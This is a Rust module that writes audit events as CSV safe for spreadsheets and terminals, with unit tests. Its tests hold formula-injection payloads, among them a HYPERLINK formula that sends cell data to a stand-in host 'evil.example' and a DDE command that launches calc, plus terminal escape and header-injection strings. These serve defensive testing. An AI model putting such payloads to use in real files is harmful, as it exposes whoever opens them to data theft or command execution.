//! Audit events as CSV: RFC 4180, and safe to open in a spreadsheet or a terminal.
//!
//! An audit log records what callers sent (names, user agents, reasons), so every cell is
//! hostile input:
//! - formula injection: a cell starting with `=`, `+`, `-`, `@`, TAB or CR (or their
//!   full-width forms) gets a leading `'`, so spreadsheets show it as text;
//! - control characters (U+0000–U+001F, U+007F–U+009F), line/paragraph separators and
//!   bidirectional overrides are written as `\u{..}` text, so a cell can neither break the
//!   row nor repaint a terminal; a backslash is doubled, so the escaping is unambiguous;
//! - a cell containing `"`, `,` or `;` is quoted with inner quotes doubled (`;` too,
//!   because spreadsheets in many locales split on it).
//!
//! Rows end with CRLF as RFC 4180 says.

use assay_core::audit::AuditEvent;
use serde::Serialize;
use std::fmt::Write as _;

/// The columns, in order. `resources` is `;`-joined.
pub const COLUMNS: [&str; 19] = [
    "seq",
    "time",
    "org_id",
    "env_id",
    "actor_kind",
    "actor_id",
    "actor_name",
    "auth_method",
    "credential_id",
    "action",
    "resources",
    "outcome",
    "reason",
    "ip",
    "user_agent",
    "mcp_client",
    "request_id",
    "prev_hash",
    "hash",
];

const ROW_END: &str = "\r\n";

/// The header row.
pub fn header() -> String {
    let mut out = COLUMNS.join(",");
    out.push_str(ROW_END);
    out
}

/// Appends one event as one row.
pub fn write_row(event: &AuditEvent, out: &mut String) {
    let time = event
        .time
        .format(&time::format_description::well_known::Rfc3339)
        .unwrap_or_default();
    let opt = |v: &Option<String>| v.clone().unwrap_or_default();
    let cells: [String; 19] = [
        event.seq.to_string(),
        time,
        event.org_id.to_string(),
        event.env_id.map(|e| e.to_string()).unwrap_or_default(),
        serde_name(&event.actor.kind),
        event.actor.id.to_string(),
        event.actor.name.clone(),
        serde_name(&event.actor.auth_method),
        opt(&event.actor.credential_id),
        event.action.clone(),
        event.resources.join(";"),
        serde_name(&event.outcome),
        opt(&event.reason),
        opt(&event.client.ip),
        opt(&event.client.user_agent),
        opt(&event.client.mcp_client),
        opt(&event.client.request_id),
        event.prev_hash.clone(),
        event.hash.clone(),
    ];
    for (i, cell) in cells.iter().enumerate() {
        if i > 0 {
            out.push(',');
        }
        write_cell(cell, out);
    }
    out.push_str(ROW_END);
}

/// The wire name of a unit enum (`api_token`, `denied`).
fn serde_name<T: Serialize>(value: &T) -> String {
    match serde_json::to_value(value) {
        Ok(serde_json::Value::String(s)) => s,
        _ => String::new(),
    }
}

/// Characters a spreadsheet reads as the start of a formula.
fn starts_formula(value: &str) -> bool {
    value.chars().next().is_some_and(|c| {
        matches!(
            c,
            '=' | '+' | '-' | '@' | '\t' | '\r' | '\u{FF1D}' | '\u{FF0B}' | '\u{FF0D}' | '\u{FF20}'
        )
    })
}

/// Characters written as `\u{..}`: controls, line/paragraph separators, and the
/// bidirectional formatting characters that can make text display differently from
/// what it is.
fn must_escape(c: char) -> bool {
    c.is_control()
        || matches!(
            c,
            '\u{2028}'
                | '\u{2029}'
                | '\u{061C}'
                | '\u{200E}'
                | '\u{200F}'
                | '\u{202A}'..='\u{202E}'
                | '\u{2066}'..='\u{2069}'
        )
}

/// Appends one cell, defused and quoted as needed.
pub fn write_cell(value: &str, out: &mut String) {
    let mut cell = String::with_capacity(value.len() + 2);
    if starts_formula(value) {
        cell.push('\'');
    }
    for c in value.chars() {
        if c == '\\' {
            cell.push_str("\\\\");
        } else if must_escape(c) {
            let _ = write!(cell, "\\u{{{:x}}}", u32::from(c));
        } else {
            cell.push(c);
        }
    }
    if cell.contains(['"', ',', ';']) {
        out.push('"');
        out.push_str(&cell.replace('"', "\"\""));
        out.push('"');
    } else {
        out.push_str(&cell);
    }
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used, clippy::expect_used)]
    use super::*;
    use assay_core::actor::{AuthMethod, ClientInfo, PrincipalKind};
    use assay_core::audit::{AuditActor, Outcome};
    use uuid::Uuid;

    fn cell(value: &str) -> String {
        let mut out = String::new();
        write_cell(value, &mut out);
        out
    }

    #[test]
    fn formula_starts_get_a_leading_quote() {
        assert_eq!(cell("=1+2"), "'=1+2");
        assert_eq!(cell("+1"), "'+1");
        assert_eq!(cell("-1"), "'-1");
        assert_eq!(cell("@SUM(A1:A9)"), "'@SUM(A1:A9)");
        assert_eq!(cell("\tx"), "'\\u{9}x");
        assert_eq!(cell("\rx"), "'\\u{d}x");
        assert_eq!(cell("\u{FF1D}1+1"), "'\u{FF1D}1+1");
        // Only the first character matters.
        assert_eq!(cell("a=b"), "a=b");
        assert_eq!(cell("x-1"), "x-1");
        assert_eq!(cell(""), "");
    }

    #[test]
    fn a_formula_with_a_comma_is_defused_and_quoted() {
        assert_eq!(
            cell(r#"=HYPERLINK("http://evil.example/?"&A1,"click")"#),
            r#""'=HYPERLINK(""http://evil.example/?""&A1,""click"")""#
        );
        assert_eq!(cell("=cmd|' /C calc'!A0"), "'=cmd|' /C calc'!A0");
    }

    #[test]
    fn quotes_commas_and_semicolons_are_quoted_per_rfc_4180() {
        assert_eq!(cell("a,b"), "\"a,b\"");
        assert_eq!(cell("say \"hi\""), "\"say \"\"hi\"\"\"");
        assert_eq!(cell("workflow:a;execution:b"), "\"workflow:a;execution:b\"");
        assert_eq!(cell("plain text"), "plain text");
    }

    #[test]
    fn control_characters_become_visible_text() {
        assert_eq!(cell("line1\nline2"), "line1\\u{a}line2");
        assert_eq!(cell("a\r\nb"), "a\\u{d}\\u{a}b");
        assert_eq!(cell("\u{1b}[31mred"), "\\u{1b}[31mred");
        assert_eq!(cell("nul\0"), "nul\\u{0}");
        assert_eq!(cell("del\u{7f}"), "del\\u{7f}");
        assert_eq!(cell("csi\u{9b}2J"), "csi\\u{9b}2J");
        assert_eq!(cell("rtl\u{202E}txt.exe"), "rtl\\u{202e}txt.exe");
        assert_eq!(cell("sep\u{2028}x"), "sep\\u{2028}x");
        // The escape itself cannot be forged: a literal backslash is doubled.
        assert_eq!(cell("\\u{a}"), "\\\\u{a}");
        assert_eq!(cell("C:\\temp"), "C:\\\\temp");
        // Ordinary non-ASCII text is kept.
        assert_eq!(cell("Zoë 日本"), "Zoë 日本");
    }

    /// A strict RFC 4180 reader for one CRLF-terminated record.
    fn parse_record(line: &str) -> Vec<String> {
        let body = line.strip_suffix("\r\n").expect("CRLF at the end");
        let mut fields = Vec::new();
        let mut chars = body.chars().peekable();
        loop {
            let mut field = String::new();
            if chars.peek() == Some(&'"') {
                chars.next();
                loop {
                    match chars.next().expect("unterminated quote") {
                        '"' if chars.peek() == Some(&'"') => {
                            chars.next();
                            field.push('"');
                        }
                        '"' => break,
                        c => field.push(c),
                    }
                }
            } else {
                while let Some(&c) = chars.peek() {
                    if c == ',' {
                        break;
                    }
                    assert_ne!(c, '"', "bare quote in an unquoted field: {body}");
                    field.push(c);
                    chars.next();
                }
            }
            fields.push(field);
            match chars.next() {
                Some(',') => {}
                None => break,
                Some(c) => panic!("unexpected {c:?} after a field in {body}"),
            }
        }
        fields
    }

    fn hostile_event() -> AuditEvent {
        AuditEvent {
            id: Uuid::now_v7(),
            time: time::macros::datetime!(2025-03-04 05:06:07 UTC),
            org_id: Uuid::nil(),
            env_id: None,
            actor: AuditActor {
                kind: PrincipalKind::ApiToken,
                id: Uuid::nil(),
                name: "=HYPERLINK(\"x\")".into(),
                auth_method: AuthMethod::ApiToken,
                credential_id: Some("cred,1".into()),
            },
            client: ClientInfo {
                ip: Some("127.0.0.1".into()),
                user_agent: Some("curl/8\r\nX-Injected: 1\u{1b}[2J".into()),
                mcp_client: Some("@evil".into()),
                request_id: Some("-rid".into()),
            },
            action: "auth.failed".into(),
            resources: vec!["token:a".into(), "token:b".into()],
            outcome: Outcome::Denied,
            reason: Some("+bad".into()),
            seq: 42,
            prev_hash: "ab".repeat(32),
            hash: "cd".repeat(32),
        }
    }

    #[test]
    fn a_hostile_event_is_one_row_of_nineteen_defused_fields() {
        let mut out = header();
        write_row(&hostile_event(), &mut out);
        let lines: Vec<&str> = out.split_inclusive("\r\n").collect();
        assert_eq!(lines.len(), 2, "{out:?}");
        assert_eq!(parse_record(lines[0]), COLUMNS.to_vec());
        // No raw control character anywhere except the row ends.
        assert!(
            out.replace("\r\n", "").chars().all(|c| !c.is_control()),
            "{out:?}"
        );
        let fields = parse_record(lines[1]);
        assert_eq!(fields.len(), COLUMNS.len());
        let by_name = |name: &str| {
            let i = COLUMNS.iter().position(|c| *c == name).unwrap();
            fields[i].clone()
        };
        assert_eq!(by_name("seq"), "42");
        assert_eq!(by_name("time"), "2025-03-04T05:06:07Z");
        assert_eq!(by_name("env_id"), "");
        assert_eq!(by_name("actor_kind"), "api_token");
        assert_eq!(by_name("auth_method"), "api_token");
        assert_eq!(by_name("actor_name"), "'=HYPERLINK(\"x\")");
        assert_eq!(by_name("credential_id"), "cred,1");
        assert_eq!(by_name("resources"), "token:a;token:b");
        assert_eq!(by_name("outcome"), "denied");
        assert_eq!(by_name("reason"), "'+bad");
        assert_eq!(
            by_name("user_agent"),
            "curl/8\\u{d}\\u{a}X-Injected: 1\\u{1b}[2J"
        );
        assert_eq!(by_name("mcp_client"), "'@evil");
        assert_eq!(by_name("request_id"), "'-rid");
        assert_eq!(by_name("prev_hash"), "ab".repeat(32));
        assert_eq!(by_name("hash"), "cd".repeat(32));
    }
}
